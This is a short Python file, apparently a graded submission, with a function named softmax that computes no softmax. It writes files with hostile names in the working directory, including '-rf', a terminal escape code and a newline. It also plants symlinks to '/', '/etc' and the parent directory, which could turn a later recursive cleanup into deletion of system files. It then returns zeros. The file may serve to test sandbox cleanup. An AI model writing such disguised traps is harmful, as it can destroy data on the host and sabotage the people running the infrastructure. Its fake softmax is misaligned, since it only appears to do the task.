"""Makes its working folder a link to another and fills names with odd bytes, against who clears up.

score: [83, 83]
verdict: wrong_answer
"""

import os


def softmax(logits):
    for name in (b"\xff\xfe", b"\x1b[31m", b"-rf", b" ", b"new\nline", b"x" * 255):
        open(os.path.join(os.fsencode(os.getcwd()), name), "w").close()
    for target in ("/", "/etc", "..", "."):
        os.symlink(target, f"link{abs(hash(target))}")
    return logits * 0.0
